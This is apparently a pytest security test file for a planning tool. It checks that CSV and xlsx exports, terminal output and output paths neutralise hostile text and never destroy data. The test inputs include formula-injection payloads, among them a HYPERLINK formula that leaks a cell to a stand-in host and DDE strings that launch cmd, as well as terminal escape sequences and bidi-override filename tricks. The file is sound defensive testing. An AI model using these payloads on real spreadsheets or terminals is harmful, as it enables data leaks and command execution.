"""What a stranger's scenario can do to the files the planner writes: nothing.

Text from a file is data in every export (no live formula in .xlsx or CSV, no line broken out of
the CSV's provenance), names and tags hold no invisible characters, and an output path never
destroys data: not the open library, not an input, not a device, not the old file on a full disk.
"""

import csv
import io
import os
import resource
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

import numpy as np
import openpyxl
import pytest

from planner import cli
from planner.exports import write_outcome_table
from planner.outputs import OutputError, atomic_output
from planner.scenario import Scenario, ScenarioError, read_scenario_file, write_scenario_file
from planner.store import Library
from planner.text import printable, short, spreadsheet_cell

FORMULAS = ['=HYPERLINK("https://example.org/?leak="&B2,"Click to refresh")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "\uff1d1+1", "  =1+1", "a,=1+1", 'a,"=1+1', "a, -1+1"]
EXAMPLE = "planner/examples/green-alliance.kuscenario"


def run_cli(capsys, *argv):
    code = cli.main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


# --- 1. text is data in every export ----------------------------------------------------------------------------

@pytest.mark.parametrize("name", FORMULAS)
def test_xlsx_holds_no_formula(tmp_path, name):
    scenario = Scenario(name=name, tags=("=1+1", "@x"), notes="=HYPERLINK(\"x\")\n-1")
    path = write_outcome_table(tmp_path / "t.xlsx", scenario)
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert name.strip() in [c.value for c in book["Provenance"]["B"]]    # the text itself, as text


def _fields(text):
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


def _live(field: str) -> bool:
    return field.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff20")) or \
        (field.lstrip(" ").startswith("-") and not _is_number(field))


def _is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_table_and_compare_hold_no_formula(tmp_path, capsys, name):
    file = write_scenario_file(tmp_path / "s.kuscenario", Scenario(name=name))
    assert run_cli(capsys, "table", file, "-o", tmp_path / "t.csv")[0] == 0
    table = (tmp_path / "t.csv").read_text(encoding="utf-8")
    code, out, _ = run_cli(capsys, "compare", file, EXAMPLE)
    assert code == 0
    for text in (table, out):
        assert not [f for f in _fields(text) if _live(f)]
    # the provenance line is one line; the compare rows carry the name as one (neutralised) field
    assert [line for line in table.splitlines() if line.startswith("# scenario: ")] == \
        [f"# scenario: {name.strip().split(',')[0]}" + "".join(
            "," + spreadsheet_cell(p) for p in name.strip().split(",")[1:])]
    names = {row[3] for row in csv.reader(io.StringIO(out)) if row[0] == "us_capacity_share"}
    assert spreadsheet_cell(name.strip()) in names


@pytest.mark.parametrize("text", ["a\u202eb", "fdp.\u202etxt", "a\x1b[2Jb", "a\nb", "a\rb", "a\x00b", "a\x85b",
                                  "a\u2028b", "a\u2066b", "a\x7fb", "a\x9bb"])
def test_names_and_tags_refuse_invisible_characters(text):
    with pytest.raises(ScenarioError, match="invisible character U\\+"):
        Scenario(name=text)
    with pytest.raises(ScenarioError, match="invisible character"):
        Scenario(tags=(text,))


def test_notes_keep_line_breaks_and_tabs_but_not_other_controls():
    assert Scenario(notes="one\r\ntwo\rthree\n\tfour").notes == "one\ntwo\nthree\n\tfour"
    for bad in ("\x1b[31m", "\u202e", "\x00", "\x07"):
        with pytest.raises(ScenarioError, match="invisible character"):
            Scenario(notes="a" + bad)


# --- 2. output paths that would destroy data ------------------------------------------------------------------------

@pytest.fixture
def library(tmp_path):
    path = tmp_path / "library.sqlite"
    with Library(path) as lib:
        lib.save(Scenario(name="Kept", notes="must survive"))
    return path


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm"])
@pytest.mark.parametrize("verb", [["table", "Kept", "-o"], ["run", "Kept", "-o"], ["export", "Kept"],
                                  ["decompose", "Kept", "-o"], ["compare", "Kept", EXAMPLE, "-o"],
                                  ["ensemble", "Kept", "--samples", "20", "-o"]])
def test_output_never_overwrites_the_library(capsys, library, verb, suffix):
    target = library.parent / f"library.sqlite{suffix}"     # -wal and -shm need not exist yet
    before = library.read_bytes()
    code, out, err = run_cli(capsys, "--db", library, *verb, target)
    assert code == 2 and "scenario library in use" in err, err
    assert library.read_bytes() == before
    assert not target.exists() or target.read_bytes()[:1] not in (b"#", b"o", b"{", b"P")   # not our output
    with Library(library) as lib:
        assert lib.get("Kept").scenario.notes == "must survive"


def test_output_never_overwrites_the_default_library(capsys, tmp_path, monkeypatch):
    """The library a command would use is protected even when the command reads a file instead."""
    default = tmp_path / "per-user" / "library.sqlite"
    monkeypatch.setenv("PLANNER_DB", str(default))
    default.parent.mkdir()
    default.write_bytes(b"stand-in library")
    code, _, err = run_cli(capsys, "run", EXAMPLE, "-o", default)
    assert code == 2 and default.read_bytes() == b"stand-in library"


@pytest.mark.parametrize("verb", [["run"], ["table"], ["decompose"], ["ensemble", "--samples", "20"]])
def test_output_never_overwrites_an_input(capsys, tmp_path, verb):
    file = write_scenario_file(tmp_path / "in.kuscenario", Scenario(name="Input"))
    before = file.read_bytes()
    code, _, err = run_cli(capsys, "--db", tmp_path / "lib.sqlite", verb[0], file, *verb[1:], "-o", file)
    assert code == 2 and "input of this command" in err and file.read_bytes() == before
    link = tmp_path / "link.csv"
    link.symlink_to(file)
    code, _, err = run_cli(capsys, "--db", tmp_path / "lib.sqlite", verb[0], file, *verb[1:], "-o", link)
    assert code == 2 and "input of this command" in err and file.read_bytes() == before


def test_compare_output_never_overwrites_one_of_its_inputs(capsys, tmp_path):
    file = write_scenario_file(tmp_path / "in.kuscenario", Scenario(name="Input"))
    before = file.read_bytes()
    code, _, err = run_cli(capsys, "--db", tmp_path / "lib.sqlite", "compare", EXAMPLE, file, "-o", file)
    assert code == 2 and file.read_bytes() == before


@pytest.mark.parametrize("verb", [["run", EXAMPLE, "-o"], ["table", EXAMPLE, "-o"], ["export", "Kept"]])
def test_devices_fifos_and_folders_are_refused_as_outputs(capsys, tmp_path, library, verb):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for target in ("/dev/full", "/dev/null", fifo, tmp_path):
        code, _, err = run_cli(capsys, "--db", library, *verb, target)
        assert code == 2 and "not a regular file" in err, (target, err)
    assert fifo.is_fifo() and os.path.exists("/dev/null") and not os.path.isfile("/dev/null")


def test_a_symlink_target_keeps_its_link(tmp_path):
    real = tmp_path / "real.kuscenario"
    write_scenario_file(real, Scenario(name="Old"))
    link = tmp_path / "link.kuscenario"
    link.symlink_to(real)
    write_scenario_file(link, Scenario(name="New"))
    assert link.is_symlink() and read_scenario_file(real).scenario.name == "New"


def test_a_failed_write_keeps_the_old_file_and_leaves_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "t.xlsx"
    target.write_bytes(b"the old table")
    from planner import exports

    def half_then_fail(path, *_):
        path.write_bytes(b"PK half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports, "_write_xlsx", half_then_fail)
    with pytest.raises(OutputError, match="disk is full"):
        write_outcome_table(target, Scenario())
    assert target.read_bytes() == b"the old table" and sorted(os.listdir(tmp_path)) == ["t.xlsx"]


def test_an_empty_result_fails_and_keeps_the_old_file(tmp_path):
    target = tmp_path / "t.csv"
    target.write_text("old")
    with pytest.raises(OutputError, match="empty file"):
        with atomic_output(target):
            pass
    assert target.read_text() == "old" and os.listdir(tmp_path) == ["t.csv"]


def _limited(limit_bytes):
    """In the child: a file-size limit, so a write beyond it fails as on a full disk (EFBIG)."""
    def apply():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))
    return apply


@pytest.mark.parametrize("verb,name", [("table", "t.xlsx"), ("table", "t.csv"), ("report", "t.pdf")])
def test_a_full_disk_fails_the_command_and_keeps_the_old_file(tmp_path, verb, name):
    target = tmp_path / name
    target.write_bytes(b"old")
    done = subprocess.run([sys.executable, "-m", "planner", verb, EXAMPLE, "-o", str(target)],
                          capture_output=True, text=True, preexec_fn=_limited(2_000), timeout=120,
                          env={**os.environ, "QT_QPA_PLATFORM": "offscreen"})
    assert done.returncode == 2 and "disk is full" in done.stderr and "Traceback" not in done.stderr, done.stderr
    assert target.read_bytes() == b"old" and os.listdir(tmp_path) == [name]


@pytest.mark.parametrize("verb", ["table", "report"])
def test_a_device_is_never_an_output(verb):
    done = subprocess.run([sys.executable, "-m", "planner", verb, EXAMPLE, "-o", "/dev/full"], capture_output=True,
                          text=True, timeout=120, env={**os.environ, "QT_QPA_PLATFORM": "offscreen"})
    assert done.returncode == 2 and "not a regular file" in done.stderr and "Traceback" not in done.stderr, done.stderr


def test_the_brief_never_overwrites_the_library_or_its_input(tmp_path):
    library = tmp_path / "library.sqlite"
    Library(library).close()
    scenario = tmp_path / "in.kuscenario"
    scenario.write_bytes(Path(EXAMPLE).read_bytes())
    before = {p: p.read_bytes() for p in (library, scenario)}
    for target, why in ((library, "library in use"), (scenario, "input of this command")):
        done = subprocess.run([sys.executable, "-m", "planner", "--db", str(library), "report", str(scenario), "-o",
                               str(target)], capture_output=True, text=True, timeout=120,
                              env={**os.environ, "QT_QPA_PLATFORM": "offscreen"})
        assert done.returncode == 2 and why in done.stderr, done.stderr
    assert {p: p.read_bytes() for p in before} == before


def test_stdout_on_a_full_disk_fails_the_command():
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "planner", "run", EXAMPLE], stdout=full, stderr=subprocess.PIPE,
                              text=True, timeout=120)
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr


# --- 6. special files and huge input --------------------------------------------------------------------------------

def test_special_files_are_refused_without_waiting(capsys, tmp_path):
    fifo = tmp_path / "pipe.kuscenario"
    os.mkfifo(fifo)
    link = tmp_path / "link.kuscenario"
    link.symlink_to(fifo)
    signal.alarm(5)    # a FIFO opened for reading the usual way waits for a writer forever
    try:
        for path in (fifo, link, "/dev/zero", "/dev/urandom", "/dev/null", tmp_path):
            with pytest.raises(ScenarioError, match="not a regular file|folder"):
                read_scenario_file(path)
            code, out, err = run_cli(capsys, "--db", tmp_path / "lib.sqlite", "import", path)
            assert code == 2 and err.count("\n") == 1
    finally:
        signal.alarm(0)


def test_error_lines_quote_only_a_little_of_a_value(capsys, tmp_path):
    for doc in ('{"format": "kuscenario", "version": 2, "name": "x", "levers": {"%s": 1}}' % ("k" * 900_000),
                '{"format": "kuscenario", "version": 2, "name": "x", "assumptions": {"%s": 1}}' % ("k" * 900_000),
                '{"format": "kuscenario", "version": 2, "name": "x", "levers": {"us_chips_incentives": "%s"}}'
                % ("9" * 900_000)):
        path = tmp_path / "big.kuscenario"
        path.write_text(doc)
        code, _, err = run_cli(capsys, "run", path)
        assert code == 2 and len(err) < 400, len(err)


def test_short_and_printable():
    assert short("x" * 1000) == "'" + "x" * 59 + "…'"
    assert short("ok") == "'ok'"
    assert printable("a\x1b[2Jb\u202ec") == "a\\x1b[2Jb\\u202ec"
    assert printable("one\ntwo", keep_newlines=True) == "one\ntwo"


# --- 7. files the docs say are refused ----------------------------------------------------------------------------

VALID = '{"format": "kuscenario", "version": 2, "name": "Fine", "levers": {"us_chips_incentives": 50}}'


@pytest.mark.parametrize("data,message", [
    (VALID.encode("utf-16"), "not UTF-8"), (VALID.encode("utf-16-le"), "not UTF-8"),
    (VALID.encode("utf-32"), "not UTF-8"), (VALID.encode("utf-32-be"), "not UTF-8"),
    (VALID.replace("50", '"150"').encode(), "JSON number"),
    (VALID.replace("50", '"١٥٠"').encode(), "JSON number"),
    (VALID.replace('"Fine"', '"Fine", "name": "Other"').encode(), "twice"),
    (VALID.replace("50}", '50, "us_chips_incentives": 100}').encode(), "twice"),
    (VALID.replace("}}", '}, "created": "-1"}').encode(), "ISO 8601"),
    (VALID.replace("}}", '}, "created": 1700000000}').encode(), "ISO 8601"),
    (VALID.replace("}}", '}, "created": "2025-01-01T00:00:00"}').encode(), "time zone"),
])
def test_strict_json(tmp_path, data, message):
    path = tmp_path / "f.kuscenario"
    path.write_bytes(data)
    with pytest.raises(ScenarioError, match=message):
        read_scenario_file(path)


def test_a_utf8_byte_order_mark_is_allowed(tmp_path):
    path = tmp_path / "f.kuscenario"
    path.write_bytes(b"\xef\xbb\xbf" + VALID.encode())
    assert read_scenario_file(path).scenario.name == "Fine"


# --- 8. terminal escapes ---------------------------------------------------------------------------------------------

def test_list_and_show_escape_terminal_controls(capsys, tmp_path):
    """A library written by another program may hold any text; the terminal sees none of it as commands."""
    path = tmp_path / "library.sqlite"
    with Library(path) as lib:
        lib.save(Scenario(name="Plain"))
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE scenario SET name = ?, tags = ? WHERE name = 'Plain'",
                     ("evil\x1b]0;pwned\x07\x1b[2J\u202e", '["\\u001b[31mred"]'))
    conn.close()
    code, out, err = run_cli(capsys, "--db", path, "list")
    assert "\x1b" not in out + err and "\u202e" not in out + err and "\x07" not in out + err
    code, out, err = run_cli(capsys, "--db", path, "show", "evil\x1b]0;pwned\x07\x1b[2J\u202e")
    assert "\x1b" not in out + err and "\u202e" not in out + err


# --- 10. a model that ever gave no number ------------------------------------------------------------------------------

def test_non_finite_results_fail_instead_of_writing_blanks(capsys, tmp_path, monkeypatch):
    import planner.scenario as scenario_module

    real = scenario_module.simulate

    def with_a_hole(*args, **kwargs):
        result = real(*args, **kwargs)
        result.values["kr_chip_exports"] = result.values["kr_chip_exports"].copy()
        result.values["kr_chip_exports"][0, -1] = np.nan
        return result

    monkeypatch.setattr(scenario_module, "simulate", with_a_hole)
    code, out, err = run_cli(capsys, "run", EXAMPLE)
    assert code == 2 and out == "" and "kr_chip_exports" in err
    code, _, err = run_cli(capsys, "table", EXAMPLE, "-o", tmp_path / "t.csv")
    assert code == 2 and not (tmp_path / "t.csv").exists()


# --- the fuzz: accepted hostile text through every output verb -------------------------------------------------------

PIECES = ["=", "+", "-", "@", "=HYPERLINK(\"http://x\",\"y\")", ",", "\"", "'", "<img src=/etc/passwd>", "<b>", "&amp;",
          "한국", "🇰🇷", " ", "=1+1", "\uff1d", "\u200b", "%", "\\", "DDE(\"cmd\";\"/C calc\";\"!A0\")", "|"]


def hostile_names(seed, count):
    import random

    rng = random.Random(seed)
    for _ in range(count):
        name = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 8))).strip() or "="
        yield Scenario(name=name[:200], tags=tuple({rng.choice(PIECES).strip() or "t" for _ in range(3)}),
                       notes="\n".join(rng.choice(PIECES) for _ in range(5)))


def test_fuzz_every_output_verb_keeps_text_as_data(capsys, tmp_path):
    library = tmp_path / "library.sqlite"
    checked = 0
    for i, scenario in enumerate(hostile_names(20261201, 25)):
        with Library(library) as lib:
            lib.save(scenario)
        name = scenario.name
        outputs = {}
        for verb in (["table", name, "-o", tmp_path / "t.csv"], ["table", name, "-o", tmp_path / "t.xlsx"],
                     ["compare", name, EXAMPLE, "-o", tmp_path / "c.csv"], ["export", name, tmp_path / "s.kuscenario"],
                     ["show", name], ["list"]):
            code, out, err = run_cli(capsys, "--db", library, *verb)
            assert code == 0, (verb, err)
            outputs[verb[0] + str(verb[-1])[-4:]] = out
        for text in ((tmp_path / "t.csv").read_text(encoding="utf-8"), (tmp_path / "c.csv").read_text(encoding="utf-8")):
            assert not [f for f in _fields(text) if _live(f)], name
        book = openpyxl.load_workbook(tmp_path / "t.xlsx")
        assert not [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert read_scenario_file(tmp_path / "s.kuscenario").scenario.same_content(scenario)
        assert all(printable(text, keep_newlines=True) == text for text in outputs.values())
        checked += 1
    assert checked == 25
